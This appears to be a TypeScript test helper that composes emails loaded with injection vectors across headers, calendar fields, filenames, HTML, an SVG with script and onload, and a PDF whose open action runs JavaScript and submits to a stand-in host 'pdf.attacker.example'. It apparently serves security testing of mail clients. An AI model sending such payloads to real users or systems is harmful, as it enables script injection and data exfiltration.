import { armed } from './vector.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64').replace(/.{76}/g, '$&\r\n');
/** Encodes text as encoded words (RFC 2047). */
const word = (text: string) =>
  Array.from(
    text.match(/.{1,12}/gsu) ?? [],
    (piece) => `=?utf-8?B?${Buffer.from(piece).toString('base64')}?=`,
  ).join('\r\n ');
const part = (type: string, body: string, ...fields: string[]) =>
  ['--b', `Content-Type: ${type}`, 'Content-Transfer-Encoding: base64', ...fields, '', base64(body)].join(
    '\r\n',
  );
const mail = (fields: string[], parts: string[]) =>
  [
    ...fields,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    ...parts,
    '--b--',
    '',
  ].join('\r\n');

/** End tags for everything that a vector may leave open. */
const end =
  '"\'></textarea></style></title></script></xmp></noscript></iframe></noembed></noframes>--></select></svg></math></template></table>';

/** Composes an email whose HTML is these vectors in sequence. */
export function htmlMail(subject: string, vectors: [string, string][]): string {
  const html = vectors.map(([name, vector]) => armed(name, vector)).join(`${end}\n`);
  const fields = ['From: a@example.com', 'To: qa@here.test', `Subject: ${subject}`];
  return mail(fields, [part('text/html; charset=utf-8', html)]);
}

/** Composes an email with these vectors in all places that show text. Its subject begins with the first vector's name. */
export function textMail(to: string, vectors: [string, string][]): string {
  const [[name] = ['none']] = vectors;
  const text = vectors.map(([name, vector]) => armed(name, vector)).join(' ');
  const said = word(text);
  const escaped = text.replace(/([\\;,])/g, '\\$1');
  const quoted = `"${text.replace(/["\\]/g, '\\$&').replace(/[^\x20-\x7e]/g, '')}"`;
  const fields = [
    `From: ${said} <a@example.com>`,
    `To: ${said} <${to}>, ${quoted.slice(0, 900)} <b@example.com>`,
    `Cc: ${said} <c@example.com>`,
    `Reply-To: ${said} <d@example.com>`,
    `Subject: ${name} ${said}`,
    `Message-ID: <${text.replace(/[^\x21-\x3b=?-\x7e]/g, '').slice(0, 300)}@example.com>`,
    `X-Vector: ${said}`,
    `List-Unsubscribe: <${text.replace(/[^\x21-\x7e]/g, '').slice(0, 300)}>, <https://x.example/?${encodeURIComponent(text).slice(0, 300)}>`,
    'OTP-Token: 493817',
  ];
  const calendar = [
    'BEGIN:VCALENDAR',
    `METHOD:${text}`,
    'BEGIN:VEVENT',
    ...['SUMMARY', 'LOCATION', 'DESCRIPTION', 'STATUS', 'DTSTART', 'RRULE'].map((key) => `${key}:${escaped}`),
    `ORGANIZER;CN=${quoted}:mailto:${text}`,
    'END:VEVENT',
    'END:VCALENDAR',
  ].join('\r\n');
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${armed(name, 'RUN')}"><script>${armed(name, 'RUN')}</script></svg>`;
  const named = (ending: string) =>
    `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(text)
      .slice(0, 500)
      .replace(/%[\dA-F]?$/, '')}${ending}`;
  const link = `<a href="https://x.example/verify?${encodeURIComponent(text)}">${text.replaceAll('<', '&lt;')} verify</a>`;
  return mail(fields, [
    part(
      'text/plain; charset=utf-8',
      `Your code is ${text}\nYour code is 493817.\nhttps://x.example/${text} ${text}`,
    ),
    part('text/html; charset=utf-8', `<p>Your code is 493817</p>${link}<p title="${text}">${text}</p>`),
    part('text/calendar', calendar, named('.ics')),
    part('text/html', text, named('.html'), `Content-ID: <${encodeURIComponent(text)}>`),
    part('image/svg+xml', svg, named('.svg')),
    part('application/pdf', pdf(armed(name, 'RUN')), named('.pdf')),
    part(`application/x-${text.replace(/[^\x21-\x7e]|[;"\\]/g, '').slice(0, 100)}`, text, named('')),
  ]);
}

/** Builds a PDF that runs a script when opened, and links to another address. */
const pdf = (script: string) =>
  `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://pdf.attacker.example/"\\);${script.replace(/[()]/g, '\\$&')})>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(https://pdf.attacker.example/u)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n`;
